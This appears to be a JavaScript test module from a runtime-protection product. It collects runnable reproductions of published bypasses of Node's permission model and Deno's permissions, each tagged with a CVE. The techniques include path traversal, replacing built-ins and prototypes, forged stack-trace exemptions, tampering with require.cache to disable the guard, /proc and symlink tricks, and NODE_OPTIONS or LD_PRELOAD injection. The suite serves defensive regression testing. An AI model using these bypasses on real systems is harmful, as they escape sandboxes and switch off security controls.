// SPDX-License-Identifier: Apache-2.0
//
// Published ways around Node's permission model, its policies and Deno's permissions, in our terms. Each row names its source;
// those of Windows alone (CVE-2023-30585, CVE-2024-36138, CVE-2025-27210) and of prompts have nothing to say here.
'use strict';

const fs = require('fs');
const path = require('path');
const vm = require('vm');
const {binding, callback, childSays, event, inWorker, streamed} = require('./tools');

const read = (name) => fs.readFileSync(name, 'utf8');
const from = (source, run, about = {}) => ({source, run, ...about});
const alone = {alone: true};

/** Runs while a property of an object is another one. */
function replaced(object, name, value, run) {
  const before = Object.getOwnPropertyDescriptor(object, name);
  Object.defineProperty(object, name, {configurable: true, writable: true, value});
  try {
    return run();
  } finally {
    if (before) Object.defineProperty(object, name, before);
    else delete object[name];
  }
}

module.exports = {
  title: "Published ways around Node's and Deno's permissions",
  kind: 'read',
  groups: {
    'paths (Node)': {
      'traversal in a string': from('CVE-2023-30584', (p) => read(`${p.out}/../../guarded/${p.tag}/secret`)),
      'traversal in a Buffer': from('CVE-2023-32004', (p) =>
        fs.readFileSync(Buffer.from(`${p.out}/../../guarded/${p.tag}/secret`)),
      ),
      'traversal in a Uint8Array': from('CVE-2023-39332', (p) =>
        fs.readFileSync(new TextEncoder().encode(`${p.out}/../../guarded/${p.tag}/secret`)),
      ),
      'mkdtemp with traversal': from('CVE-2023-32003', (p) => fs.mkdtempSync(`${p.out}/../../guarded/${p.tag}/x`), {
        kind: 'write',
      }),
      'path.resolve replaced': from('CVE-2023-39331', (p) =>
        replaced(
          path,
          'resolve',
          () => '/etc/hostname',
          () => read(p.secret),
        ),
      ),
      'path.toNamespacedPath replaced': from('CVE-2023-39331', (p) =>
        replaced(
          path,
          'toNamespacedPath',
          () => '/etc/hostname',
          () => read(p.secret),
        ),
      ),
      'Buffer.from replaced': from('CVE-2024-21896', (p) =>
        replaced(
          Buffer,
          'from',
          () => '/etc/hostname',
          () => read(p.secret),
        ),
      ),
      'Buffer.prototype.utf8Write replaced': from('CVE-2024-21896', (p) => {
        const name = Buffer.from(p.secret);
        return replaced(
          Buffer.prototype,
          'utf8Write',
          () => 0,
          () => fs.readFileSync(name),
        );
      }),
      'Buffer.prototype.toString replaced': from('CVE-2024-21896', (p) => {
        const name = Buffer.from(p.secret);
        const text = Buffer.prototype.toString;
        const found = replaced(
          Buffer.prototype,
          'toString',
          () => '/etc/hostname',
          () => fs.readFileSync(name),
        );
        return text.call(found);
      }),
      'Uint8Array with its own toString': from('CVE-2024-21891', (p) =>
        fs.readFileSync(Object.assign(Buffer.from(p.secret), {toString: () => '/etc/hostname'})),
      ),
      'String.prototype replaced': from('CVE-2024-21891', (p) =>
        replaced(
          String.prototype,
          'startsWith',
          () => false,
          () =>
            replaced(
              String.prototype,
              'includes',
              () => false,
              () => read(p.secret),
            ),
        ),
      ),
      'Array.prototype replaced': from('CVE-2024-21891', (p) =>
        replaced(
          Array.prototype,
          'some',
          () => false,
          () =>
            replaced(
              Array.prototype,
              'join',
              () => '/etc/hostname',
              () => read(p.secret),
            ),
        ),
      ),
      'Map.prototype and Set.prototype replaced': from('CVE-2024-21891', (p) =>
        replaced(
          Map.prototype,
          'get',
          () => undefined,
          () =>
            replaced(
              Set.prototype,
              'has',
              () => true,
              () => read(p.secret),
            ),
        ),
      ),
      'JSON replaced': from('CVE-2024-21891', (p) =>
        replaced(
          JSON,
          'parse',
          () => ({action: 'grant'}),
          () => read(p.secret),
        ),
      ),
      'Reflect.apply replaced': from('CVE-2024-21891', (p) =>
        replaced(
          Reflect,
          'apply',
          () => undefined,
          () => read(p.secret),
        ),
      ),
      'getters on Object.prototype': from('CVE-2024-21891', (p) =>
        replaced(Object.prototype, 'action', 'grant', () =>
          replaced(Object.prototype, 'granted', true, () => read(p.secret)),
        ),
      ),
      'an object that looks like a URL': from('CVE-2023-39331', (p) =>
        fs.readFileSync({
          href: `file://${p.secret}`,
          protocol: 'file:',
          pathname: p.secret,
          hostname: '',
          host: '',
          origin: 'null',
          search: '',
          hash: '',
        }),
      ),
      'a URL whose pathname changes': from('CVE-2023-39331', (p) => {
        const made = new URL('file:///etc/hostname');
        let asked = 0;
        Object.defineProperty(made, 'pathname', {get: () => (asked++ ? p.secret : '/etc/hostname')});
        made.href = `file://${p.secret}`;
        return fs.readFileSync(made);
      }),
      'a path on shared memory': from('CVE-2024-21891', (p) => {
        const shared = new Uint8Array(new SharedArrayBuffer(p.secret.length));
        shared.set(Buffer.from(p.secret));
        return fs.readFileSync(shared);
      }),
      'a file named with wildcards': from(
        'CVE-2024-21890',
        (p) => (fs.symlinkSync(p.dir, `${p.out}/*`), read(`${p.out}/*/secret`)),
      ),
      'crafted relative symbolic links': from('CVE-2025-55130', (p) => {
        fs.mkdirSync(`${p.out}/a/b/c`, {recursive: true});
        fs.symlinkSync('../../../../..', `${p.out}/a/b/c/up`);
        return read(`${p.out}/a/b/c/up/guarded/${p.tag}/secret`);
      }),
      'a symbolic link moved after it was made': from('CVE-2025-55130', (p) => {
        fs.mkdirSync(`${p.out}/deep/er`, {recursive: true});
        fs.symlinkSync(`../../guarded/${p.tag}`, `${p.out}/deep/er/l`);
        fs.renameSync(`${p.out}/deep/er/l`, `${p.out}/l`);
        return read(`${p.out}/l/secret`);
      }),
      'a link in a mount of /proc': from(
        'CVE-2025-55130',
        (p) => (fs.symlinkSync(`/proc/self/root${p.dir}`, `${p.out}/l`), read(`${p.out}/l/secret`)),
      ),
    },
    'functions that were forgotten (Node)': {
      'fs.openAsBlob': from('CVE-2023-30583', async (p) => (await fs.openAsBlob(p.secret)).text()),
      'fs.watchFile': from('CVE-2023-30582', (p) => watchFile(p), {kind: 'stat', several: 'polls', stirred: true}),
      'fs.statfs': from('CVE-2023-32005', (p) => bits(p, (n) => fs.statfsSync(n)), {kind: 'stat', several: true}),
      'fs.lstat': from('CVE-2024-22018', (p) => Math.round(fs.lstatSync(p.secret).mtimeMs / 1000), {kind: 'stat'}),
      'promises.lstat': from(
        'CVE-2024-22018',
        async (p) => Math.round((await fs.promises.lstat(p.secret)).mtimeMs / 1000),
        {kind: 'stat'},
      ),
      'fs.realpathSync.native': from('CVE-2026-21715', (p) => fs.realpathSync.native(`${p.dir}/link`), {kind: 'list'}),
      'fs.fchmod': from('CVE-2024-36137', (p) => fs.fchmodSync(fs.openSync(p.secret), 0o600), {kind: 'write'}),
      'fs.fchown': from('CVE-2024-36137', (p) => fs.fchownSync(fs.openSync(p.secret), 1, 1), {kind: 'write'}),
      'FileHandle.chmod': from('CVE-2026-21716', async (p) => (await fs.promises.open(p.secret)).chmod(0o600), {
        kind: 'write',
      }),
      'FileHandle.chown': from('CVE-2026-21716', async (p) => (await fs.promises.open(p.secret)).chown(1, 1), {
        kind: 'write',
      }),
      'fs.futimes': from('CVE-2025-55132', (p) => fs.futimesSync(fs.openSync(p.secret), 1, 1), {kind: 'write'}),
      'FileHandle.utimes': from('CVE-2025-55132', async (p) => (await fs.promises.open(p.secret)).utimes(1, 1), {
        kind: 'write',
      }),
      'unix socket by socketPath': from(
        'CVE-2026-21636',
        (p) => event(require('http').request({socketPath: p.unix}).end(), 'response', 'close'),
        {kind: 'send'},
      ),
      'unix socket by net.connect': from('CVE-2026-21636', (p) => event(require('net').connect(p.unix), 'connect'), {
        kind: 'send',
      }),
      'crypto.setEngine': from('CVE-2023-30586', (p) => require('crypto').setEngine(p.library), {
        kind: 'load',
        several: true,
      }),
    },
    'bindings, internals, modules (Node)': {
      "process.binding('fs')": from('CVE-2023-32558', (p) => binding('fs').readFileUtf8(Buffer.from(p.secret), 0)),
      "process.binding('spawn_sync')": from(
        'CVE-2023-32559',
        (p) => {
          const stdio = [{type: 'ignore'}, {type: 'ignore'}, {type: 'ignore'}];
          const {error} = binding('spawn_sync').spawn({file: '/usr/bin/touch', args: ['touch', p.marker], stdio});
          if (error) throw new Error(String(error));
        },
        {kind: 'spawn'},
      ),
      'Module._load': from('CVE-2023-32002', (p) => require('module')._load('fs').readFileSync(p.secret)),
      'module.constructor.createRequire': from('CVE-2023-32006', (p) =>
        module.constructor.createRequire('/')('fs').readFileSync(p.secret),
      ),
      'process.mainModule.__proto__.require': from('CVE-2023-30581', (p) =>
        process.mainModule.__proto__.require('fs').readFileSync(p.secret),
      ),
      'module.children[].require': from('CVE-2023-30581', (p) =>
        (require.main.children[0] || module).constructor.prototype.require.call(module, 'fs').readFileSync(p.secret),
      ),
      'module with its own _compile': from('CVE-2023-32002', (p) => {
        const Module = require('module');
        const made = new Module('x');
        made._compile(
          `module.exports = require('fs').readFileSync(${JSON.stringify(p.secret)}, 'utf8')`,
          '/usr/lib/x.js',
        );
        return made.exports;
      }),
      'import in a data: URL': from(
        'CVE-2024-22020',
        async (p) =>
          (
            await import(
              `data:text/javascript,${encodeURIComponent(`import {readFileSync} from 'fs'; export default readFileSync(${JSON.stringify(p.secret)}, 'utf8')`)}`
            )
          ).default,
      ),
      'import through a blob: or http: in data:': from(
        'CVE-2024-22020',
        (p) => import(`data:text/javascript,import 'http://127.0.0.1:${p.port}/x.mjs'`),
        {kind: 'send', alone: true},
      ),
      'a file named as one of ours': from('stack-based exemptions forged by file names', (p) =>
        new vm.Script(`(r, n) => r('fs').readFileSync(n, 'utf8')`, {
          filename: 'node:internal/modules/esm/load',
        }).runInThisContext()(require, p.secret),
      ),
      'a function named as the loader': from('stack-based exemptions forged by names', (p) => {
        const made = {['Module._extensions..js']: () => read(p.secret)};
        return made['Module._extensions..js']();
      }),
      'Error.prepareStackTrace that lies': from('stack-based exemptions forged', (p) =>
        replaced(
          Error,
          'prepareStackTrace',
          () => [{getFileName: () => 'node:internal/modules/cjs/loader', getFunctionName: () => 'require'}],
          () => read(p.secret),
        ),
      ),
      'Error.stackTraceLimit = 0': from('stack-based exemptions forged', (p) => {
        const before = Error.stackTraceLimit;
        Error.stackTraceLimit = 0;
        try {
          return read(p.secret);
        } finally {
          Error.stackTraceLimit = before;
        }
      }),
      'the code of a .js name through a one-shot token': from(
        'exemptions for code loading',
        (p) => {
          const {readFileSync} = fs;
          const Module = require('module');
          let found;
          replaced(
            Module.prototype,
            '_compile',
            function () {},
            () => {
              try {
                Module._extensions['.js']({filename: p.secret, paths: []}, p.secret);
                found = readFileSync(p.secret, 'utf8');
              } catch (error) {
                found = error;
              }
            },
          );
          return found;
        },
        {several: true},
      ),
      'an internal worker through diagnostics_channel': from(
        'CVE-2025-23083',
        (p) => {
          const channel = require('diagnostics_channel').channel('worker_threads');
          let Worker;
          const take = ({worker}) => {
            Worker = worker.constructor;
          };
          channel.subscribe(take);
          return inWorker('return 1', p)
            .catch(() => {})
            .then(() => {
              channel.unsubscribe(take);
              const text = `require('worker_threads').parentPort.postMessage(require('fs').readFileSync(${JSON.stringify(p.secret)}, 'utf8'))`;
              const Class = Worker || require('worker_threads').Worker;
              return new Promise((resolve, reject) =>
                new Class(text, {eval: true, execArgv: [], env: {}}).on('message', resolve).on('error', reject),
              );
            });
        },
        {several: true},
      ),
      'the Worker behind Worker.prototype.constructor': from('CVE-2025-23083', (p) => {
        const text = `require('worker_threads').parentPort.postMessage(require('fs').readFileSync(${JSON.stringify(p.secret)}, 'utf8'))`;
        const Class = require('worker_threads').Worker.prototype.constructor;
        return new Promise((resolve, reject) =>
          new Class(text, {eval: true, execArgv: [], env: {}}).on('message', resolve).on('error', reject),
        );
      }),
      'a Worker whose options have getters': from('CVE-2025-23083', (p) => {
        let asked = 0;
        const options = {
          eval: true,
          get execArgv() {
            return asked++ ? ['--no-warnings'] : [];
          },
          get env() {
            return {};
          },
        };
        const text = `require('worker_threads').parentPort.postMessage(require('fs').readFileSync(${JSON.stringify(p.secret)}, 'utf8'))`;
        return new Promise((resolve, reject) =>
          new (require('worker_threads').Worker)(text, options).on('message', resolve).on('error', reject),
        );
      }),
      'inspector makes a worker internal': from(
        'CVE-2023-30587',
        (p) => {
          const session = new (require('inspector').Session)();
          session.connect();
          return callback((done) =>
            session.post(
              'Runtime.evaluate',
              {expression: `process.mainModule.require('fs').readFileSync(${JSON.stringify(p.secret)}, 'utf8')`},
              done,
            ),
          );
        },
        alone,
      ),
      'our package required again': from(
        'reloading the guard with other settings',
        (p) => {
          process.env.TREND_AP_POLICY = '{"schema": 1, "name": "mine"}';
          process.env.TREND_AP_AGENT_ENABLED = 'false';
          for (const name of Object.keys(require.cache)) if (name.includes('app_protect')) delete require.cache[name];
          for (const name of Object.keys(require.cache)) if (name.includes('preload')) require(name);
          return read(p.secret);
        },
        alone,
      ),
      'every function of ours in require.cache replaced': from(
        'finding our objects',
        (p) => {
          for (const made of Object.values(require.cache)) {
            if (!made.filename.includes('app_protect')) continue;
            for (const key of Object.keys(made.exports || {})) {
              try {
                made.exports[key] = () => true;
              } catch {
                // not writable
              }
            }
          }
          return read(p.secret);
        },
        alone,
      ),
      'async_hooks and process.nextTick replaced': from('user code inside a hook', (p) => {
        const hook = require('async_hooks')
          .createHook({init() {}})
          .enable();
        return (
          replaced(
            process,
            'nextTick',
            () => {},
            () => read(p.secret),
          ) || hook.disable()
        );
      }),
      'in an exit listener': from(
        'hooks at the end',
        (p) => {
          process.once('exit', () => fs.writeSync(1, read(p.secret)));
        },
        alone,
      ),
      'a worker that outlives a terminate': from(
        'hooks at the end',
        (p) => {
          const text = `const fs = require('fs'); for (let i = 0; i < 50; i++) { try { fs.writeSync(1, fs.readFileSync(${JSON.stringify(p.secret)})); } catch {} }`;
          const worker = new (require('worker_threads').Worker)(text, {eval: true});
          return new Promise((resolve) => worker.on('exit', resolve).on('error', resolve));
        },
        {several: true},
      ),
    },
    'environment and children (Node)': {
      'NODE_OPTIONS of a child': from('CVE-2024-21892', (p) => {
        fs.writeFileSync(
          `${p.out}/x.js`,
          `console.log(require('fs').readFileSync(${JSON.stringify(p.secret)}, 'utf8'))`,
        );
        return childSays(process.execPath, ['-e', '1'], {env: {NODE_OPTIONS: `--require ${p.out}/x.js`}});
      }),
      '--permission in a child': from('permissions are not inherited', (p) =>
        childSays(
          process.execPath,
          ['--no-warnings', '-p', `require('fs').readFileSync(${JSON.stringify(p.secret)}, 'utf8')`],
          {env: {TREND_AP_AGENT_ENABLED: 'false'}},
        ),
      ),
      'NODE_CHANNEL_FD of the program': from('CVE-2024-27933 (Deno): a descriptor opened as an IPC pipe', (p) => {
        const fd = fs.openSync(p.secret, 'r');
        return streamed(new (require('net').Socket)({fd, readable: true}));
      }),
      'a descriptor as net.Socket': from('CVE-2024-27933 (Deno)', (p) =>
        streamed(fs.createReadStream(null, {fd: fs.openSync(Buffer.from(p.secret))})),
      ),
    },
    'Deno, in our terms': {
      'symlink into a denied folder': from(
        'CVE-2021-41641',
        (p) => (fs.symlinkSync(p.dir, `${p.out}/l`), read(`${p.out}/l/secret`)),
      ),
      'write through a symlink': from(
        'CVE-2021-41641',
        (p) => (fs.symlinkSync(p.dir, `${p.out}/l`), fs.writeFileSync(`${p.out}/l/new`, 'x')),
        {kind: 'write'},
      ),
      'static import below a dynamic one': from(
        'CVE-2021-32619',
        async (p) => {
          fs.writeFileSync(`${p.out}/x.mjs`, `export {NAME} from ${JSON.stringify(`${p.dir}/x.mjs`)}`);
          return (await import(`${p.out}/x.mjs`)).NAME;
        },
        {files: ['x.mjs'], several: true},
      ),
      'core operations reached directly': from('CVE-2022-24783', (p) => binding('fs').readFileUtf8(p.secret, 0)),
      'node:http without a check': from(
        'CVE-2023-33966',
        (p) => event(require('http').get(`http://192.0.2.1:${p.port}/`), 'response'),
        {kind: 'send'},
      ),
      'makeTemp in a folder of its choice': from('CVE-2024-27931', (p) => fs.mkdtempSync(`${p.dir}/x`), {
        kind: 'write',
      }),
      'makeTemp with a prefix that traverses': from(
        'CVE-2024-27931',
        (p) => fs.mkdtempSync(path.join(p.out, `../../guarded/${p.tag}/x`)),
        {kind: 'write'},
      ),
      '/proc/self/environ of an allowed /proc': from('CVE-2024-34346', (p) => read(`/proc/self/root${p.secret}`)),
      '/proc/self/mem written': from('CVE-2024-34346', () => (fs.openSync('/proc/self/mem', 'r+'), 'happened'), {
        kind: 'value',
        alone: true,
        never_granted: "our own pages and libc's",
      }),
      '/proc/<pid>/fd of another descriptor': from('CVE-2024-34346', (p) =>
        read(`/proc/${process.pid}/fd/${fs.openSync(p.secret, 0o10000000)}`),
      ),
      '/dev/stdin replaced': from(
        'CVE-2024-34346',
        (p) => (fs.symlinkSync(p.secret, `${p.out}/stdin`), fs.readFileSync(fs.openSync(`${p.out}/stdin`))),
      ),
      'sqlite ATTACH': from(
        'CVE-2025-48935',
        (p) => {
          const made = new (require('node:sqlite').DatabaseSync)(':memory:');
          made.exec(`attach '${p.dir}/data.sqlite' as x`);
          return made.prepare('select * from x.t').all();
        },
        {files: ['data.sqlite']},
      ),
      'FsFile.utime': from('CVE-2025-61785', async (p) => (await fs.promises.open(p.secret)).utimes(1, 1), {
        kind: 'write',
      }),
      'FsFile.stat': from(
        'CVE-2025-61786',
        async (p) => Math.round((await (await fs.promises.open(p.secret)).stat()).mtimeMs / 1000),
        {kind: 'stat'},
      ),
      'spawn with LD_PRELOAD': from('--allow-run and LD_ variables', (p) =>
        childSays('/bin/cat', [p.secret], {env: {LD_PRELOAD: '/nothing.so', LD_LIBRARY_PATH: '/nothing'}}),
      ),
      'a program named by a relative path': from(
        'CVE-2025-61787 class: another program runs than was judged',
        (p) => {
          fs.copyFileSync('/usr/bin/touch', `${p.out}/true`);
          return callback((done) => require('child_process').execFile('true', [p.marker], {env: {PATH: p.out}}, done));
        },
        {kind: 'spawn'},
      ),
    },
  },
};

function bits(p, work) {
  let found = '';
  for (let number = 0; number < 20; number++) {
    try {
      work(`${p.dir}/maybe/${number}`);
      found += '1';
    } catch {
      found += '0';
    }
  }
  return found;
}

function watchFile(p) {
  return new Promise((resolve) => {
    fs.watchFile(p.secret, {interval: 20}, (now) => {
      fs.unwatchFile(p.secret);
      resolve(Math.round(now.mtimeMs / 1000));
    });
    setTimeout(() => (fs.unwatchFile(p.secret), resolve('nothing')), 600);
  });
}
